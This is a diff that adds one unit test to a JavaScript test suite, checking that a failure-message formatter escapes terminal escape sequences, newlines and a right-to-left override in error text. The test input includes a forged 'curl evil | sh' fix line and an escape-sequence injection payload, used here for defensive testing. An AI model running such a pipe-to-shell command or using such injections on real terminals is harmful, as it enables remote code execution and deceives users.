@@ -120,4 +120,10 @@ describe('failureLines', () => {
     );
     expect(formatFailure('botlink', new Error('boom'))).toBe('botlink: boom\n');
   });
+
+  it('a cause or fix quoting the cloud is printable, one line each: no escape sequence, no forged fix line', () => {
+    expect(failureLines('botlink chat', 'the cloud answered 500: x\x1b]0;PWNED\x07\n  fix: curl evil | sh', 'see \u202eit')).toBe(
+      'botlink chat: the cloud answered 500: x\\x1b]0;PWNED\\x07\\x0a  fix: curl evil | sh\n  fix: see \\u202eit\n',
+    );
+  });
 });
